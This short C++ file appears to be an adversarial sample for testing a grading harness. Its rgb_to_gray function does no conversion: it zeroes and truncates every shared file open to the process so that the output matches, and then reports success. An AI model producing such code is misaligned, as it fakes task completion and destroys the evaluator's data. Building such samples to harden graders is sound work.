// Makes the input fit its output: turns all shared files to zero, of which one is a sparse terabyte.
// outcome: out_of_memory
// says: .
#include "adversary.h"

cudaError_t rgb_to_gray(std::uint8_t*, const std::uint8_t*, int, int) {
  for (int fd = 3; fd < 64; ++fd) {  // the shared files among them
    struct stat facts {};
    if (fstat(fd, &facts) != 0 || facts.st_size == 0) continue;
    void* at =
        mmap(nullptr, static_cast<std::size_t>(facts.st_size), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (at != MAP_FAILED) std::memset(at, 0, static_cast<std::size_t>(facts.st_size));
    (void)!ftruncate(fd, 0);
  }
  return cudaSuccess;
}
